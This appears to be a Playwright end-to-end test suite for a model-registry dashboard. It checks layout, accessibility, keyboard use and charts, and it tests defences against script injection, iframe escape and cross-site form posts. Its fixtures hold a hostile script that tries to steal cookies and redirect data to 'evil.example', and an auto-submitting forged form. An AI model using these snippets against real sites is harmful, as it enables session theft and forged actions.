"""The pages in a real browser: how they look, who can use them, and that no text in them ever runs."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import uvicorn
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, BrowserContext, Dialog, Page, expect

from tests.e2e.conftest import PICTURES
from tests.e2e.payloads import PAYLOADS
from tests.unit.stores.examples import MODEL
from tests.unit.web.conftest import SECRET, Roles, Surroundings
from tests.unit.web.year import fill
from tests.waiting import until
from windvane.stores import open_stores
from windvane.web.app import create_app
from windvane.web.host import Host
from windvane.web.local import listen

ADDRESSES = {
    "overview": "/",
    "model": f"/models/{MODEL}",
    "over_time": f"/models/{MODEL}/over-time",
    "window": f"/models/{MODEL}/windows/2013-04",
    "version": f"/models/{MODEL}/versions/3",
    "card": f"/models/{MODEL}/versions/3/card",
    "health": "/health",
    "approvals": "/approvals",
    "audit_log": f"/models/{MODEL}/audit-log?verify=yes",
    "compare": f"/models/{MODEL}/compare",
    "prediction": f"/models/{MODEL}/predictions",
    "form": f"/models/{MODEL}/do/rollback",
    "approve": f"/models/{MODEL}/do/approve?version=3",
    "paired": f"/models/{MODEL}/compare?a=3&b=1",
    "unpaired": f"/models/{MODEL}/compare?a=2&b=1",
    "run": f"/run?dag={MODEL}_train&run=run_6",
    "grouped": "/?group=owner",
    "missing": "/models/nope",
}
RULES = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]


class Served:
    """The pages of a registry, on a port of their own, as long as the block lasts.

    Args:
        home: Where the registry is written.
        odd: Put into every free text of it.
    """

    def __init__(self, home: Path, odd: str = "") -> None:
        stores = open_stores(f"sqlite:///{home / 'registry.db'}", str(home / "artifacts"))
        fill(stores, odd)
        app = create_app(Host(lambda: stores, Roles(), Surroundings(), SECRET))
        self._socket = listen(0)
        self._server = uvicorn.Server(uvicorn.Config(app, log_level="warning", lifespan="off"))
        self._thread = threading.Thread(target=self._server.run, args=([self._socket],), daemon=True)
        self.url = f"http://127.0.0.1:{self._socket.getsockname()[1]}"

    def __enter__(self) -> str:
        self._thread.start()
        until(lambda: self._server.started, "the pages are served")
        return self.url

    def __exit__(self, *_: object) -> None:
        self._server.should_exit = True
        self._thread.join(10)
        self._socket.close()


def listening(page: Page) -> tuple[list[str], list[str]]:
    """Return what is filled from now on: the texts of dialogs, and the addresses that are asked for."""
    dialogs: list[str] = []
    requested: list[str] = []

    def seen(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", seen)
    page.on("request", lambda request: requested.append(request.url))
    return dialogs, requested


@pytest.fixture(scope="module")
def pages(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    PICTURES.mkdir(exist_ok=True)
    with Served(tmp_path_factory.mktemp("pages")) as url:
        yield url


def context_of(browser: Browser, **how: Any) -> BrowserContext:
    """A context of an operator in Berlin."""
    given = {"locale": "en-GB", "timezone_id": "Europe/Berlin", "extra_http_headers": {"x-role": "op"}, **how}
    return browser.new_context(**given)


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [360, 640, 1280, 1920])
def test_every_page_fits_and_anyone_can_use_it(pages: str, browser: Browser, scheme: Any, width: int) -> None:
    """640 px is 1280 at 200 % zoom. The pictures are kept; axe-core finds nothing to complain of."""
    context = context_of(browser, viewport={"width": width, "height": 900}, color_scheme=scheme)
    page = context.new_page()
    problems: list[str] = []
    page.on("console", lambda said: problems.append(said.text) if said.type == "error" else None)
    page.on("pageerror", lambda error: problems.append(str(error)))
    for name, path in ADDRESSES.items():
        page.goto(pages + path)
        page.screenshot(path=PICTURES / f"{name}-{scheme}-{width}.png", full_page=True)
        wider = page.evaluate("document.documentElement.scrollWidth - window.innerWidth")
        assert wider <= 0, f"{name} is {wider} px too wide"
        if (width, scheme) in ((1280, "light"), (1280, "dark"), (360, "light")):
            found = Axe().run(page, options={"runOnly": RULES}).response["violations"]
            assert not [(name, item["id"], item["nodes"][0]["html"]) for item in found]
    assert [text for text in problems if "404" not in text] == []
    context.close()


def test_why_is_not_squeezed_and_a_telephone_shows_the_newest_windows(pages: str, browser: Browser) -> None:
    context = context_of(browser, viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.goto(f"{pages}/models/{MODEL}/audit-log")
    widths = page.locator("td.wide").evaluate_all("cells => cells.map(cell => cell.offsetWidth)")
    assert min(widths) >= 240
    context.close()
    context = context_of(browser, viewport={"width": 390, "height": 844})
    page = context.new_page()
    page.goto(f"{pages}/models/{MODEL}")
    hidden = page.get_by_role("region", name="Timeline").evaluate(
        "region => region.scrollWidth - region.clientWidth - region.scrollLeft"
    )
    assert hidden <= 1  # the newest window is at the right end
    page.goto(f"{pages}/models/{MODEL}/over-time")
    heat = page.get_by_role("region", name="Heat map")
    assert heat.evaluate("region => region.scrollWidth - region.clientWidth - region.scrollLeft") <= 1
    page.goto(f"{pages}/models/{MODEL}")
    rows = page.locator("#windows tbody tr")
    assert "2013-06" in rows.first.inner_text()
    for name in ("overview", "health", "model", "window", "version", "approvals", "audit_log", "compare", "run"):
        page.goto(pages + ADDRESSES[name])
        cards = page.locator(".scroll > table:not(.heat, .small) tbody tr")
        assert max(cards.evaluate_all("cards => cards.map(card => card.offsetHeight)"), default=0) <= 180, name
    context.close()


@pytest.mark.parametrize("width", [390, 1280])
def test_words_of_eighty_characters_break_and_widen_no_page(tmp_path: Path, browser: Browser, width: int) -> None:
    """So does nothing that stands for screen readers alone, at the end of a table that scrolls."""
    odd = "_with_a_name_of_eighty_characters_that_nobody_would_choose_but_somebody_did_anyway"
    with Served(tmp_path, odd) as url:
        context = context_of(browser, viewport={"width": width, "height": 900})
        page = context.new_page()
        for name, path in ADDRESSES.items():
            page.goto(url + path)
            assert page.evaluate("document.documentElement.scrollWidth - window.innerWidth") <= 0, name
        context.close()


def test_the_keyboard_alone_reaches_and_sorts(pages: str, browser: Browser) -> None:
    context = context_of(browser)
    page = context.new_page()
    page.goto(f"{pages}/models/{MODEL}")
    page.keyboard.press("Tab")
    expect(page.get_by_role("link", name="Skip to the content")).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.locator("#main")).to_be_focused()
    page.get_by_role("region", name="Windows, table").get_by_role("link", name="Loss").focus()
    page.keyboard.press("Enter")
    expect(page.get_by_role("columnheader", name="Loss")).to_have_attribute("aria-sort", "ascending")
    context.close()


def test_moments_are_the_viewers_own_with_utc_beside_and_utc_without_scripts(pages: str, browser: Browser) -> None:
    texts = []
    for scripts in (True, False):
        context = context_of(browser, java_script_enabled=scripts)
        page = context.new_page()
        page.goto(f"{pages}/models/{MODEL}/versions/2")
        time_of = page.locator("time").first
        texts.append((time_of.inner_text(), time_of.get_attribute("title") or ""))
        context.close()
    (local, title), (plain, _) = texts
    assert "UTC" not in local
    assert "UTC (shown in Europe/Berlin)" in title
    assert plain.endswith("UTC")


def test_light_and_dark_follow_what_airflow_keeps(pages: str, browser: Browser) -> None:
    context = context_of(browser, color_scheme="light")
    context.add_init_script("localStorage.setItem('theme', 'dark')")
    page = context.new_page()
    page.goto(pages)
    expect(page.locator("html")).to_have_attribute("data-theme", "dark")
    context.close()


@pytest.mark.parametrize("half", [0, 1])
def test_no_text_of_two_hundred_hostile_ones_runs(browser: Browser, tmp_path: Path, half: int) -> None:
    assert len(set(PAYLOADS)) == 200
    with Served(tmp_path, " ".join(PAYLOADS[half::2])) as url:
        context = context_of(browser)
        context.add_init_script(
            "window.__broken = [];"
            "document.addEventListener('securitypolicyviolation', e => window.__broken.push(e.violatedDirective));"
        )
        page = context.new_page()
        dialogs, requested = listening(page)
        for name, path in ADDRESSES.items():
            query = (
                f"&windows.reason={PAYLOADS[half]}&key={PAYLOADS[half]}" if "?" in path else f"?key={PAYLOADS[half]}"
            )
            page.goto(url + path + query, wait_until="load")
            assert page.evaluate("window.__broken") == [], name
            assert page.evaluate("window.__ran") is None, name
            assert "ran" not in page.title().split(), name
        assert dialogs == []
        assert {address for address in requested if not address.startswith(url)} == set()
        context.close()


def test_scripts_in_a_report_reach_neither_the_pages_nor_the_network(browser: Browser, tmp_path: Path) -> None:
    """What Evidently would write of hostile names: its own scripts run, and each way out of the frame is shut."""
    tries = {
        "page": "top.__ran = 1",
        "text": "parent.document.body.innerHTML",
        "cookie": "document.cookie = 'mine=1'",
        "kept": "localStorage.setItem('mine', '1')",
        "leave": "top.location = 'http://evil.example/'",
    }
    lines = "".join(f"try {{ {code}; told.push('{name}') }} catch (error) {{}}\n" for name, code in tries.items())
    rest = "fetch('/api').then(() => told.push('fetch')).catch(() => told.push('no fetch'));"
    shown = "setTimeout(() => { document.body.append('told: ' + told.join()); }, 500);"
    leaving = (
        "setTimeout(() => { location = 'http://evil.example/?told=' + told; parent.postMessage('tried', '*'); }, 1500);"
    )
    hostile = f"<script>const told = [];\n{lines}{rest}{shown}{leaving}alert(1);</script>"
    with Served(tmp_path, hostile) as url:
        context = context_of(browser)
        context.add_init_script("window.addEventListener('message', () => { window.__tried = true; });")
        page = context.new_page()
        dialogs, requested = listening(page)
        page.goto(f"{url}/models/{MODEL}/windows/2013-04")
        assert not [address for address in requested if address.endswith("/report")], "loaded before it is asked for"
        page.get_by_text("Show the report").click()
        expect(page.frame_locator("iframe.report").locator("body")).to_contain_text("told: no fetch")
        until(lambda: bool(page.evaluate("window.__tried")), "the report tries to leave")
        assert page.evaluate("window.__ran") is None
        assert page.url.startswith(url)
        page.goto(f"{url}/models/{MODEL}/windows/2013-04/report")
        assert page.url.endswith("/windows/2013-04")
        assert dialogs == []
        assert {address for address in requested if not address.startswith(url)} == set()
        context.close()


def test_a_form_sent_from_another_site_is_refused(pages: str, browser: Browser, tmp_path: Path) -> None:
    """A page of another origin posts to ours with all that its browser would send along."""
    form = f'<form method="post" action="{pages}/models/{MODEL}/do/pause"><input name="reason" value="mine"></form>'
    (tmp_path / "evil.html").write_text(f"{form}<script>document.forms[0].submit()</script>", encoding="utf-8")
    context = context_of(browser)
    page: Page = context.new_page()
    page.goto(f"{pages}/models/{MODEL}/do/pause")  # the cookie is there
    with page.expect_response("**/do/pause") as answer:
        page.goto((tmp_path / "evil.html").as_uri(), wait_until="commit")
    assert answer.value.status == 403
    context.close()


def test_a_chart_is_read_zoomed_and_followed_with_the_keyboard_or_the_mouse(pages: str, browser: Browser) -> None:
    context = context_of(browser, viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.goto(f"{pages}/models/{MODEL}")
    chart, said = page.locator(".plot-live"), page.locator(".plot-said")
    chart.focus()
    page.keyboard.press("End")
    expect(said).to_contain_text(
        "2013-06; champion 0.46 (0.44 to 0.48); first version, never retrained 0.475; alert: because of 6"
    )
    expect(said).to_contain_text("incident 1, open")
    page.keyboard.press("ArrowLeft")
    expect(said).to_contain_text("2013-05; champion 0.45 (0.43 to 0.47)")
    page.get_by_role("button", name="champion").click()
    expect(page.get_by_role("button", name="champion")).to_have_attribute("aria-pressed", "false")
    plane = chart.locator(".u-over")
    plane.scroll_into_view_if_needed()
    box = plane.bounding_box()
    assert box is not None
    page.mouse.move(box["x"] + 0.3 * box["width"], box["y"] + 50)
    page.mouse.down()
    page.mouse.move(box["x"] + 0.7 * box["width"], box["y"] + 50, steps=5)
    page.mouse.up()
    expect(page.get_by_role("button", name="Show all")).to_be_visible()
    assert page.url.endswith(f"/models/{MODEL}"), "a zoom leads nowhere"
    chart.focus()
    page.keyboard.press("Escape")
    expect(page.get_by_role("button", name="Show all")).to_be_hidden()
    page.mouse.click(box["x"] + 0.1 * box["width"], box["y"] + 50)
    expect(page).to_have_url(f"{pages}/models/{MODEL}/windows/2013-02")
    income = page.locator("figure", has_text="income")
    income.locator(".plot-live").focus()
    page.keyboard.press("ArrowRight")
    expect(income.locator(".plot-said")).to_contain_text("0 to 1; then 23.2 % of its values; now 22.2 % of its values")
    context.close()


def test_print_and_no_script_show_the_still_drawing(pages: str, browser: Browser) -> None:
    for how in ("print", "screen"):
        context = context_of(browser, java_script_enabled=how == "print")
        page = context.new_page()
        page.emulate_media(media=how)
        page.goto(f"{pages}/models/{MODEL}")
        expect(page.locator(".plot-still svg")).to_be_visible()
        expect(page.locator(".plot-live")).to_be_hidden()
        context.close()


def test_a_version_says_first_whether_it_may_serve_and_its_folded_sections_open_by_their_links(
    pages: str, browser: Browser
) -> None:
    context = context_of(browser, viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.goto(f"{pages}/models/{MODEL}/versions/3")
    expect(page.locator(".headline")).to_have_text(
        "v3 of 2013-06 may serve once a person approves it: it passed the only rule of its gate."
    )
    curves = page.locator("#curves svg").first
    expect(curves).to_be_hidden()
    page.get_by_role("navigation", name="On this page").get_by_role("link", name="Curves").focus()
    page.keyboard.press("Enter")
    expect(curves).to_be_in_viewport()
    page.goto(f"{pages}/models/{MODEL}/versions/3#lineage")
    expect(page.get_by_text("Fingerprint of all inputs")).to_be_visible()
    page.goto(f"{pages}/models/{MODEL}/versions/3?slices.sort=value#slices")
    expect(page.get_by_role("region", name="Slices, table")).to_be_visible()
    context.close()


def test_segments_calibration_and_groups_are_read_over_time_with_their_intervals(pages: str, browser: Browser) -> None:
    context = context_of(browser, viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.goto(f"{pages}/models/{MODEL}/over-time?column=zip")
    for section, told in (
        ("#segments", "2013-06; 10117 0.62 (0.5743 to 0.6657); all rows 0.46"),
        ("#calibration", "2013-06; above 0.5 0.12 (0.09108 to 0.1489)"),
    ):
        chart = page.locator(f"{section} figure").last
        chart.locator(".plot-live").focus()
        page.keyboard.press("End")
        expect(chart.locator(".plot-said")).to_contain_text(told)
    group = page.locator("#fairness figure", has_text="zip: 10117")
    group.locator(".plot-live").focus()
    page.keyboard.press("End")
    expect(group.locator(".plot-said")).to_contain_text("2013-06; 10117 0.3 (0.2572 to 0.3466)")
    page.keyboard.press("Enter")
    expect(page).to_have_url(f"{pages}/models/{MODEL}/windows/2013-06")
    cell = page.get_by_role("region", name="Heat map").get_by_title("income in 2013-06: moved by 12 % of the rows")
    expect(cell).to_have_text("12 %")
    context.close()
